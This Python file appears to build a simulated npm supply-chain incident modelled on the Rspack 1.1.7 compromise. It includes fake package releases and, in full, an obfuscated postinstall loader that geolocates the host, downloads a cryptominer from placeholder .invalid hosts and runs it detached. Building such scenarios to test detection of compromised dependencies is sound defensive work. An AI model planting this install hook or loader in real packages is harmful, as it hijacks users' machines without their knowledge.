"""@rspack/core and @rspack/cli 1.1.7 (2024-12-19): a stolen token; a postinstall fetches a miner, and starts it.

By the record: from about 02:01 UTC for an hour, under an account of the project, without the provenance that the releases before had;
the script for postinstall is new. It asks where the machine is, fetches a miner and its settings, and starts it.
"""

from gauntlet import shapes
from gauntlet.incident import Advisory, Files, Incident, Package, Release, utc
from pratique.core.names import Ecosystem

_CORE = """'use strict';
const path = require('path');
const { EventEmitter } = require('events');

class Compiler extends EventEmitter {
  constructor(context, options) {
    super();
    Object.assign(this, { context, options, running: false });
  }
  run(callback) {
    if (this.running) return callback(new Error('ConcurrentCompilation: there is one already'));
    this.running = true;
    this.emit('compile', this.options.entry);
    setImmediate(() => {
      this.running = false;
      const stats = { entries: Object.keys(this.options.entry), path: this.options.output.path };
      this.emit('done', stats);
      callback(null, stats);
    });
  }
  close(callback) {
    this.removeAllListeners();
    callback();
  }
}

function normalized(options) {
  const context = options.context || process.cwd();
  const entry = typeof options.entry === 'string' ? { main: options.entry } : options.entry || { main: './src' };
  const output = { path: path.resolve(context, 'dist'), filename: '[name].js', ...options.output };
  return { ...options, context, entry, output, mode: options.mode || 'production' };
}

function rspack(options, callback) {
  const whole = normalized(options);
  const compiler = new Compiler(whole.context, whole);
  for (const plugin of whole.plugins || []) plugin.apply(compiler);
  if (callback) compiler.run((error, stats) => compiler.close(() => callback(error, stats)));
  return compiler;
}

module.exports = rspack;
module.exports.rspack = rspack;
module.exports.Compiler = Compiler;
"""
_CLI = """'use strict';
const path = require('path');
const fs = require('fs');

class RspackCLI {
  async run(words) {
    const [command = 'build', ...flags] = words.slice(2);
    const options = await this.config(flags);
    if (command === 'build') return this.build(options);
    throw new Error(`no command is called ${command}`);
  }
  async config(flags) {
    const at = flags.indexOf('--config');
    const file = path.resolve(at >= 0 ? flags[at + 1] : 'rspack.config.js');
    return fs.existsSync(file) ? require(file) : {};
  }
  build(options) {
    const { rspack } = require('@rspack/core');
    return new Promise((done, fail) => {
      rspack(options, (error, stats) => (error ? fail(error) : done(stats)));
    });
  }
}

exports.RspackCLI = RspackCLI;
"""
_BIN = """#!/usr/bin/env node
const { RspackCLI } = require('../dist/index');
new RspackCLI().run(process.argv).catch((error) => { console.error(error); process.exit(2); });
"""
_MINES = """
const os = require('os');
const fs = require('fs');
const path = require('path');
const https = require('https');
const http = require('http');
const childProcess = require('child_process');
const places = ['MA', 'MB', 'MC'];
const folder = path.join(os.tmpdir(), 'marker_helper');
const program = path.join(folder, 'marker');
function got(address) {
  return new Promise((done, fail) => {
    const client = address.startsWith('https') ? https : http;
    client.get(address, { headers: { 'User-Agent': 'curl/7.68.0' } }, (answer) => {
      const parts = [];
      answer.on('data', (part) => parts.push(part));
      answer.on('end', () => done(Buffer.concat(parts)));
    }).on('error', fail);
  });
}
async function begin() {
  if (os.platform() !== 'linux' || os.arch() !== 'x64') { return; }
  const where = JSON.parse((await got('https://where.invalid/json')).toString());
  if (places.indexOf(where.country) < 0) { return; }
  const told = JSON.parse((await got('http://sink.invalid/tokens/marker')).toString());
  fs.mkdirSync(folder, { recursive: true });
  fs.writeFileSync(program + '.tar.gz', await got('https://files.invalid/marker/releases/download/v6/marker-linux-static-x64.tar.gz'));
  childProcess.execSync('tar -xzf ' + program + '.tar.gz -C ' + folder);
  fs.chmodSync(program, 493);
  const cores = Math.max(1, Math.floor(os.cpus().length * 0.75));
  const child = childProcess.spawn(program, ['-u', told.user, '--url', told.pool, '--cpu-max-threads-hint', String(cores), '--background'], { detached: true, stdio: 'ignore' });
  child.unref();
}
begin().catch(() => {});
"""
_AT = "dist/util/support.js"


def _support(seed: int) -> str:
    return shapes.obfuscated(_MINES, seed=seed, encoded=True) + "\n"


def _release(name: str, version: str, at: str, files: Files, seed: int = 0) -> Release:
    bad = shapes.Made({**files, _AT: lambda: _support(seed)}) if seed else files
    return Release(
        version=version,
        at=utc(at),
        publisher="rspack-bot",
        maintainers=("rspack-bot", "rspack-lead"),
        files=bad,
        attested=not seed,
        scripts={"postinstall": f"node ./{_AT}"} if seed else {},
        more={"main": "dist/index.js", **({"bin": {"rspack": "bin/rspack.js"}} if name == "cli" else {})},
    )


_FILES: dict[str, Files] = {
    "core": {"dist/index.js": _CORE, "README.md": "# core\n\nA bundler for the web.\n"},
    "cli": {
        "dist/index.js": _CLI,
        "bin/rspack.js": _BIN,
        "README.md": "# cli\n\nThe bundler on the command line.\n",
    },
}


def _package(name: str, second: int, seed: int) -> Package:
    files = _FILES[name]
    return Package(
        name=f"@rspack/{name}",
        releases=(
            _release(name, "1.1.3", f"2024-11-18T09:00:{second:02}Z", files),
            _release(name, "1.1.4", f"2024-11-26T09:00:{second:02}Z", files),
            _release(name, "1.1.5", f"2024-12-03T09:00:{second:02}Z", files),
            _release(name, "1.1.6", f"2024-12-10T09:00:{second:02}Z", files),
            _release(name, "1.1.7", f"2024-12-19T02:01:{second:02}Z", files, seed),
            _release(name, "1.1.8", f"2024-12-19T09:30:{second:02}Z", files),
        ),
    )


_BAD = {"@rspack/core": ("1.1.7",), "@rspack/cli": ("1.1.7",)}

INCIDENT = Incident(
    id="rspack-2024",
    title=(
        "an attacker with a stolen token added a postinstall script to Rspack that downloads and starts a miner"
    ),
    copy=("our copy of Rspack has an obfuscated script that requests the country and starts the program"),
    ecosystem=Ecosystem.NPM,
    at=utc("2024-12-19T02:01:00Z"),
    packages=(_package("core", 0, 71), _package("cli", 40, 72)),
    asks={"@rspack/core": "^1.1.0", "@rspack/cli": "^1.1.0"},
    good={"@rspack/core": "1.1.6", "@rspack/cli": "1.1.6"},
    bad=_BAD,
    guilty=_BAD,
    gone_at=utc("2024-12-19T03:00:00Z"),
    advisory=Advisory(id="GHSA", at=utc("2024-12-19T12:00:00Z"), about=_BAD),
    invented=(
        "days of earlier releases, publish seconds, accounts, the name of the script, and its obfuscation; vant is left out"
    ),
)
